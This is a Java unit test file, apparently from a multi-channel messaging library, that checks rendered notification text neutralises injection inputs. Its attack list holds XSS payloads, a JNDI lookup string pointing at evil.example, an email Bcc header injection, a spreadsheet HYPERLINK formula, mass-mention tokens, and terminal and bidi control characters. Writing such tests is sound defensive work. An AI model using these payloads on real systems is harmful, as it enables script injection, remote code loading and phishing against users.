package io.fenghuo.channel;

import static org.assertj.core.api.Assertions.assertThat;

import io.fenghuo.channel.catalogue.Channels;
import io.fenghuo.channel.wording.Medium;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Every way we know of making words come alive, in every medium, as the words, the name, the title and the match of a message. */
class AttacksTest {
    /** What must not be found in the medium's text, whatever a stranger wrote. */
    private static final Pattern ANYWHERE = Pattern.compile(
            "[\\u0000-\\u0009\\u000b-\\u001f\\u007f-\\u009f\\u200b\\u200e\\u200f\\u202a-\\u202e\\u2060-\\u2069\\ufeff\\ufff9-\\ufffb\\x{e0000}-\\x{e007f}]"
                    + "|https?://|javascript:|data:|mailto:|tel:|weixin://|dingtalk://|(?i)(?:evil|example|localhost)[.\\u3002\\uff61\\u2024][a-z]");

    private static final Pattern CHAT = Pattern.compile(ANYWHERE.pattern() + "|[@<>]");
    private static final Pattern MARKDOWN = Pattern.compile(CHAT.pattern() + "|[\\[\\]`*_#|~\\\\&!(){}]");
    private static final Pattern MRKDWN = Pattern.compile(CHAT.pattern() + "|[*_~`]|&(?!amp;|lt;|gt;)");
    private static final Pattern HTML = Pattern.compile(ANYWHERE.pattern() + "|[<>\"']|&(?!amp;|lt;|gt;|quot;|#39;)");
    private static final Pattern TELEGRAM = Pattern.compile(ANYWHERE.pattern() + "|[@<>]|&(?!amp;|lt;|gt;|quot;)");
    private static final Pattern PLAIN = Pattern.compile(ANYWHERE.pattern() + "|@");

    static final List<String> ATTACKS = List.of(
            "@all",
            "@所有人",
            "<@all>",
            "<@zhangsan>",
            "<@U012AB3CD>",
            "<!channel>",
            "<!here>",
            "<!everyone|here>",
            "<!subteam^S123>",
            "<#C123|general>",
            "<at id=all></at>",
            "<at user_id=\"all\">所有人</at>",
            "&lt;at id=all&gt;",
            "&#60;at id=all&#62;",
            "[点我](http://evil.example/x)",
            "[点我][1]\n\n[1]: http://evil.example",
            "![图](http://evil.example/y.png)",
            "<http://evil.example|官网>",
            "http://evil.example/x?a=1",
            "HTTPS://EVIL.EXAMPLE/",
            "www.evil.example",
            "evil.example/登录",
            "evil。example",
            "evil｡com",
            "evil․com",
            "官网.evil.cn",
            "http://1.2.3.4:8080/x",
            "10.0.0.1",
            "a@evil.example",
            "mailto:a@evil.example",
            "tel:13900000000",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "weixin://dl/business?t=x",
            "dingtalk://dingtalkclient/page/link?url=http%3A%2F%2Fevil.example",
            "# 一级标题\n## 二级",
            "> 引用\n>> 再引",
            "- [ ] 任务\n1. 一\n| a | b |\n|---|---|",
            "```\ncode\n```",
            "**粗** __线__ *斜* _斜_ ~~删~~ `码`",
            "<font color=\"warning\">红</font>",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<a href=//evil.example>x</a>",
            "\" onmouseover=\"alert(1)",
            "' onfocus='alert(1)",
            "<!--[if mso]><b>x</b><![endif]-->",
            "<style>*{display:none}</style>",
            "]]>&amp;&#x3c;b&#x3e;",
            "\u001b[31m红\u001b[0m\u001b[2J",
            "\u001b]8;;http://evil.example\u0007点\u001b]8;;\u0007",
            "\u009b31m\u0007\b\u0000",
            "\u202e倒过来\u202c",
            "\u2066隔\u2069\u200f\u200e",
            "e\u200bvil.exam\u200bple",
            "\ufeff零\u2060宽",
            "\udb40\udc61\udb40\udc62标签字符",
            "\ud83d孤\udc00",
            "一行\r\nBcc: all@evil.example\r\n\r\n正文",
            "行\u2028分\u2029隔\u0085符",
            "{{7*7}} ${jndi:ldap://evil.example/a} {0} %s %n",
            "=HYPERLINK(\"http://evil.example\")",
            "z\u0300\u0301\u0302\u0303\u0304\u0305algo");

    static Stream<Arguments> table() {
        List<Arguments> table = new ArrayList<>();
        for (String attack : ATTACKS) {
            for (Medium medium : Medium.values()) {
                table.add(Arguments.of(attack, medium));
            }
        }
        return table.stream();
    }

    @ParameterizedTest
    @MethodSource("table")
    void nothingComesAlive(String attack, Medium medium) {
        String written = medium.text(attack);
        assertThat(written).as("%s in %s", attack, medium).doesNotContainPattern(alive(medium));
        assertThat(written).doesNotContain("\n");
        assertThat(medium.text(attack + attack)).doesNotContain("\n");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void noTemplateMakesItAlive(String attack) {
        Wording wording = Wording.read(
                        "t",
                        "title: {{grade}} {{what}}\n{{deadline}} {{#strong}}{{what}}{{/strong}} {{brand}}{{owner}}\n{{#said}}{{where}}{{/said}}",
                        Set.of(Message.Kind.FIRST))
                .wording();
        Message message = Samples.message(attack, attack, attack).worded(wording);
        Outgoing out = Channels.builtIn()
                .type("feishu")
                .orElseThrow()
                .render(message, Samples.spec("feishu"), Samples.NOW)
                .get(0);
        String body = Samples.body(out);
        assertThat(body.substring(body.indexOf("\"tag\":\"markdown\"")))
                .doesNotContain("<at id=all>", "[点我](", "![", "evil.example", "<script");
    }

    static List<String> attacks() {
        return ATTACKS;
    }

    /** What would be more than text in a medium. */
    private static Pattern alive(Medium medium) {
        return switch (medium) {
            case CHAT -> CHAT;
            case MARKDOWN -> MARKDOWN;
            case MRKDWN -> MRKDWN;
            case HTML -> HTML;
            case PLAIN -> PLAIN;
            case TELEGRAM -> TELEGRAM;
        };
    }
}
